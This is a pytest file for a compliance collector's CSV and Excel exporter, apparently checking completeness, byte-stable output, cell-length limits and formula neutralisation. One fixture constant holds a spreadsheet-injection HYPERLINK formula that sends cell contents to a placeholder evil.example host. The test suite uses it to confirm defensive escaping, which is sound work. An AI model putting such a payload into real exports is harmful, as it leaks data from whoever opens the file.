"""The tables: nothing lost, nothing that a spreadsheet would run, the same bytes each time, and no cell too long."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from dataclasses import replace
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from collector.canonical import moment
from collector.export import tables, workbook
from collector.export.columns import Table
from collector.export.dossier import Dossier, Item, RunItems
from collector.export.words import utc
from collector.ledger.entry import population_digest

NAMES = [
    "results",
    "items",
    "states",
    "exceptions",
    "coverage",
    "coverage_by_control",
    "reconciliation",
    "changes",
    "alerts",
    "decisions",
    "populations",
    "anchors",
    "collector",
    "spots",
]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def folder(dossier: Dossier, tmp_path_factory: pytest.TempPathFactory) -> Path:
    made = tmp_path_factory.mktemp("tables")
    tables.write(dossier, made)
    return made


def read(folder: Path, name: str) -> list[dict[str, str]]:
    with (folder / f"{name}.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def table_named(name: str) -> Table:
    return next(table for table in tables.TABLES if table.name == name)


def flat(dossier: Dossier) -> list[tuple[RunItems, Item]]:
    return [(run, item) for run in dossier.items() for item in run.items]


def sheets(folder: Path) -> dict[str, list[tuple[Any, ...]]]:
    book = openpyxl.load_workbook(folder / "tables.xlsx", read_only=True)
    found = {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in book}
    book.close()
    return found


def test_there_is_a_file_for_each_table_and_one_workbook(folder: Path) -> None:
    assert sorted(path.name for path in folder.iterdir()) == sorted([*(f"{n}.csv" for n in NAMES), "tables.xlsx"])
    assert [table.name for table in tables.TABLES] == NAMES


def test_every_due_slot_is_a_row_with_its_outcome(dossier: Dossier, folder: Path) -> None:
    rows = read(folder, "results")
    assert len(rows) == len(dossier.slots)
    for row, slot in zip(rows, dossier.slots, strict=True):
        assert (row["check"], row["scope"], row["account"]) == (slot.due.check, slot.due.scope, slot.due.account)
        assert moment(row["due_utc"]) == slot.due.at == moment(row["due_local"])
        assert row["state"] == slot.state.value
        assert row["run"] == (str(slot.run.seq) if slot.run else "")
        assert row["gap"] == (str(slot.gap.seq) if slot.gap else "")
        assert row["runs"] == str(slot.runs)
        assert row["reason"] == slot.reason
        counts = [row[name] for name in ("satisfied", "not_satisfied", "not_applicable", "undetermined")]
        if slot.run is None or slot.run.population is None:
            assert (row["population"], counts) == ("", ["", "", "", ""])
        else:
            assert sum(int(count) for count in counts) == int(row["population"]) == slot.run.population
    assert {row["state"] for row in rows} == {"observed", "late", "partial", "gap", "missed"}
    assert {row["runs"] for row in rows} == {"0", "1", "2"}
    assert "2404" in {row["late_s"] for row in rows}


def test_local_times_carry_the_offset_of_their_season(folder: Path) -> None:
    offsets = {row["due_utc"] < "2026-03-29T01": row["due_local"][-6:] for row in read(folder, "results")}
    assert offsets == {True: "+01:00", False: "+02:00"}


def test_every_item_is_a_row_with_its_facts(dossier: Dossier, folder: Path) -> None:
    rows = read(folder, "items")
    items = flat(dossier)
    assert len(rows) == len(items) == dossier.item_rows
    for row, (run, item) in zip(rows, items, strict=True):
        assert (row["run"], row["check"], row["scope"]) == (str(run.run), run.check, run.scope)
        assert row["slot_utc"] == ("" if run.slot is None else utc(run.slot))
        assert row["subject"].removeprefix("'") == item.subject
        assert (json.loads(row["facts"]) if row["facts"] else None) == item.facts
        assert row["evidence"].split() == list(item.evidence)
    assert {row["facts"] == "" for row in rows if row["state"] == "undetermined"} == {True}
    assert [row["slot_utc"] for row in rows if row["run"] == rows[-1]["run"]] == [""], "the run by hand"


def test_an_exception_has_its_whole_life(dossier: Dossier, folder: Path) -> None:
    rows = read(folder, "exceptions")
    assert len(rows) == len(dossier.deviations)
    by_subject = {row["subject"]: row for row in rows}
    mended = by_subject["arn:aws:iam::111122223333:user/deploy-legacy"]
    assert mended["controls"] == "ACC-01"
    assert (mended["duration_s"], mended["duration"]) == ("165600", "1 d 22 h")
    assert (mended["still_open"], mended["began_before_window"]) == ("no", "no")
    assert int(mended["mended_by"]) > int(mended["first_bad"])
    raised = [a for a in dossier.alerts if a.subject == mended["subject"] and a.event == "trigger"]
    assert mended["alerts"] == str(raised[0].seq)
    assert [part.split()[0] for part in mended["alerts_delivered"].split("; ")] == ["mail", "pager"]
    open_one = by_subject["arn:aws:s3:::acme-public-site"]
    assert (open_one["until_utc"], open_one["mended_by"], open_one["still_open"]) == ("", "", "yes")
    older = by_subject["arn:aws:iam::111122223333:user/li.wei"]
    assert (older["began_before_window"], older["alerts"], older["since_utc"]) == (
        "yes",
        "",
        "2026-03-08T23:00:00.000000Z",
    )


def test_coverage_adds_up_and_agrees_with_the_results(folder: Path) -> None:
    results = read(folder, "results")
    lines = read(folder, "coverage")
    for line in lines:
        mine = [row["state"] for row in results if (row["check"], row["scope"]) == (line["check"], line["scope"])]
        assert int(line["due"]) == len(mine)
        for state in ("observed", "late", "partial", "gap", "missed"):
            assert int(line[state]) == mine.count(state)
        assert int(line["covered"]) == int(line["observed"]) + int(line["late"])
    assert sum(int(line["due"]) for line in lines) == len(results)


def test_populations_say_how_many_and_whether_they_are_the_same(dossier: Dossier, folder: Path) -> None:
    rows = {int(row["run"]): row for row in read(folder, "populations")}
    runs = {slot.run.seq for slot in dossier.slots if slot.run} | {run.seq for run in dossier.runs_outside_slots}
    assert set(rows) == runs
    subjects: dict[int, list[str]] = {seq: [] for seq in runs}
    for run, item in flat(dossier):
        subjects[run.run].append(item.subject)
    for seq, row in rows.items():
        if row["listing"] == "none":
            assert (row["count"], row["digest"], row["satisfied"]) == ("", "", "")
            assert row["reason"]
        else:
            assert row["count"] == str(len(subjects[seq]))
            assert row["digest"] == population_digest(subjects[seq])
    empty = [row for row in rows.values() if row["check"] == "aws-rds-encrypted"]
    assert {(row["count"], row["listing"]) for row in empty} == {("0", "complete")}
    assert [row["slot_utc"] for row in rows.values()].count("") == 1, "the run by hand"


def test_alerts_and_changes_are_complete(dossier: Dossier, folder: Path) -> None:
    alerts = read(folder, "alerts")
    assert [int(row["entry"]) for row in alerts] == [alert.seq for alert in dossier.alerts]
    assert all("pager failed" in row["deliveries"] and row["delivered"] == "yes" for row in alerts)
    assert {row["cause"] for row in alerts} == {"failed", "blind"}
    assert [row["what"] for row in read(folder, "changes")] == [change.what for change in dossier.changes]


def test_an_alert_that_no_channel_took_says_so(weekend: Dossier, tmp_path: Path) -> None:
    lost = replace(weekend.alerts[0], deliveries=(("pager", "gave-up", weekend.until),))
    lives = tuple(replace(life, alerts=(lost,)) for life in weekend.lives)
    tables.write(replace(weekend, alerts=(lost,), lives=lives), tmp_path)
    assert read(tmp_path, "alerts")[0]["delivered"] == "no"
    assert {row["alerts_delivered"] for row in read(tmp_path, "exceptions")} == {""}


# --- spreadsheets ---


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", FORMULA])
def test_no_text_begins_like_a_formula(text: str) -> None:
    assert tables.neutral(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "aws/1", "a=1", " =1", "'=1", "arn:aws:s3:::x"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert tables.neutral(text) == text


def test_no_cell_of_any_file_is_a_formula(dossier: Dossier, folder: Path) -> None:
    assert any(item.subject == FORMULA for _, item in flat(dossier)), "the window holds one"
    for name in NAMES:
        for row in read(folder, name):
            assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
    book = openpyxl.load_workbook(folder / "tables.xlsx", read_only=True)
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert kinds == {"s", "n", "d"}
    book.close()


def test_files_are_utf8_with_crlf_and_no_mark(folder: Path) -> None:
    data = (folder / "items.csv").read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")
    assert "jiří.novák" in data.decode("utf-8")
    assert data.count(b"\n") == data.count(b"\r\n")
    assert data.endswith(b"\r\n")


def test_a_reason_with_newlines_and_quotes_survives(weekend: Dossier, tmp_path: Path) -> None:
    nasty = 'said "no",\r\nthen\nnothing; né'
    tables.write(replace(weekend, changes=(replace(weekend.changes[0], what=nasty),)), tmp_path)
    assert read(tmp_path, "changes")[0]["what"] == nasty


def test_the_workbook_has_the_same_rows_as_the_files(dossier: Dossier, folder: Path) -> None:
    book = sheets(folder)
    assert list(book) == ["about", *NAMES]
    for name in NAMES:
        header, *rows = book[name]
        written = read(folder, name)
        assert list(header) == list(table_named(name).header)
        assert len(rows) == len(written)
        for cells, row in zip(rows, written, strict=True):
            for title, cell in zip(header, cells, strict=True):
                if isinstance(cell, datetime):
                    exact = datetime.fromisoformat(row[title])
                    assert abs((cell - exact.replace(tzinfo=None)).total_seconds()) < 0.01
                    assert title.endswith("_local")
                else:
                    assert ("" if cell is None else str(cell)) == row[title]
    about = dict(book["about"])
    assert about["origin"] == dossier.origin
    assert about["assurance"] == dossier.assurance
    assert about["items"].startswith(f"{dossier.item_rows:,} rows")


def test_sheets_are_frozen_filtered_and_without_links(weekend: Dossier, tmp_path: Path) -> None:
    tables.write(weekend, tmp_path)
    book = openpyxl.load_workbook(tmp_path / "tables.xlsx")
    for name in NAMES:
        assert book[name].freeze_panes == "A2"
        assert not book[name]._hyperlinks
        assert book[name].auto_filter.ref == book[name].dimensions
        assert book[name]["A1"].font.bold
        assert book[name].column_dimensions["A"].width > 9
    book.close()


def test_the_same_window_gives_the_same_bytes(folder: Path, rebuilt: Callable[[], Dossier], tmp_path: Path) -> None:
    tables.write(rebuilt(), tmp_path)
    for path in folder.iterdir():
        assert (tmp_path / path.name).read_bytes() == path.read_bytes(), path.name


def test_a_table_goes_on_in_a_second_sheet(dossier: Dossier, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "ROWS_MAX", 1001)
    tables.write(dossier, tmp_path)
    book = sheets(tmp_path)
    parts = [book[name] for name in book if name.startswith("results")]
    assert len(parts) == len(dossier.slots) // 1000 + 1
    assert {part[0] for part in parts} == {parts[0][0]}, "each has the header"
    assert all(len(part) == 1001 for part in parts[:-1])
    assert sum(len(part) - 1 for part in parts) == len(dossier.slots) == len(read(tmp_path, "results"))


def test_items_that_are_too_many_for_a_sheet_say_where_they_are(
    weekend: Dossier, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tables, "SHEET_ITEMS_MAX", weekend.item_rows - 1)
    tables.write(weekend, tmp_path)
    book = sheets(tmp_path)
    assert len(read(tmp_path, "items")) == weekend.item_rows
    told = [row[0] for row in book["items"][1:]]
    assert told[0] == f"{weekend.item_rows:,} rows: more than a workbook can hold. They are in items.csv."
    assert any("The sheet states says the same in fewer" in line for line in told)
    assert dict(book["about"])["items"].startswith(f"{weekend.item_rows:,} rows")
    assert len(book["states"]) > 1


def test_rows_of_a_run_that_saw_the_same_are_those_that_would_be_made_anew(dossier: Dossier, tmp_path: Path) -> None:
    for name, distinct in (("shared", False), ("anew", True)):
        runs = [replace(run, observations=str(run.run)) if distinct else run for run in dossier.items()]
        (tmp_path / name).mkdir()
        tables.write(replace(dossier, items=lambda runs=runs: iter(runs)), tmp_path / name)
    assert (tmp_path / "shared/items.csv").read_bytes() == (tmp_path / "anew/items.csv").read_bytes()


def test_states_are_the_stretches_of_the_window(dossier: Dossier, folder: Path) -> None:
    rows = read(folder, "states")
    stretches = [*dossier.stretches, *dossier.blind]
    assert len(rows) == len(stretches)
    assert [tuple(row[n] for n in ("check", "scope", "subject")) for row in rows] == sorted(
        (s.check, s.scope, f"'{s.subject}" if s.subject == FORMULA else s.subject) for s in stretches
    )
    assert {row["state"] for row in rows if not row["subject"]} == {"undetermined"}
    # the same as the items, run by run: where a subject's state is read off the stretch that holds it
    spans: dict[tuple[str, str, str], list[tuple[int, int, str]]] = {}
    for row in rows:
        key = (row["check"], row["scope"], row["subject"].removeprefix("'"))
        spans.setdefault(key, []).append((int(row["from_run"]), int(row["to_run"] or 10**9), row["state"]))
    for run, item in flat(dossier):
        if run.slot is not None:
            held = [state for begin, end, state in spans[run.check, run.scope, item.subject] if begin <= run.run < end]
            assert held == [item.state]


def test_a_cell_that_excel_cannot_hold_is_cut_with_a_note(weekend: Dossier, tmp_path: Path) -> None:
    long = "𝕏" * 20_000 + "end"  # two UTF-16 units each
    tables.write(replace(weekend, changes=(replace(weekend.changes[0], what=long),)), tmp_path)
    assert read(tmp_path, "changes")[0]["what"] == long
    cell = sheets(tmp_path)["changes"][1][-1]
    assert cell.endswith("… [cut here: the whole cell is in changes.csv]")
    assert 32_760 < len(cell.encode("utf-16-le")) // 2 <= 32_767
    assert cell.startswith("𝕏" * 16_000)


# --- refusals ---


def test_items_that_do_not_add_up_to_the_run_are_refused(weekend: Dossier, tmp_path: Path) -> None:
    runs = list(weekend.items())
    large = next(run for run in runs if len(run.items) > 1)
    short = replace(large, observations="another", items=large.items[1:])
    with pytest.raises(ValueError, match=f"run {large.run} lists"):
        tables.write(replace(weekend, items=lambda: (short if run is large else run for run in runs)), tmp_path)


def test_items_of_one_run_that_come_twice_are_refused(weekend: Dossier, tmp_path: Path) -> None:
    runs = list(weekend.items())
    with pytest.raises(ValueError, match="come twice"):
        tables.write(replace(weekend, items=lambda: iter([*runs, runs[0]])), tmp_path)


def test_runs_whose_payload_has_expired_keep_their_counts(weekend: Dossier, tmp_path: Path) -> None:
    tables.write(replace(weekend, items=lambda: iter(())), tmp_path)
    rows = [row for row in read(tmp_path, "populations") if row["check"] == "aws-iam-user-mfa" and row["count"]]
    assert {(row["count"], row["digest"]) for row in rows} == {("5", "")}


def test_an_empty_window_has_headers_and_no_rows(dossier: Dossier, tmp_path: Path) -> None:
    empty = replace(
        dossier,
        slots=(),
        runs_outside_slots=(),
        coverage=(),
        deviations=(),
        lives=(),
        stretches=(),
        blind=(),
        alerts=(),
        changes=(),
        items=lambda: iter(()),
        own=replace(dossier.own, events=()),
    )
    tables.write(empty, tmp_path)
    for name, rows in sheets(tmp_path).items():
        if name != "about":
            assert len(rows) == 1
            assert read(tmp_path, name) == []
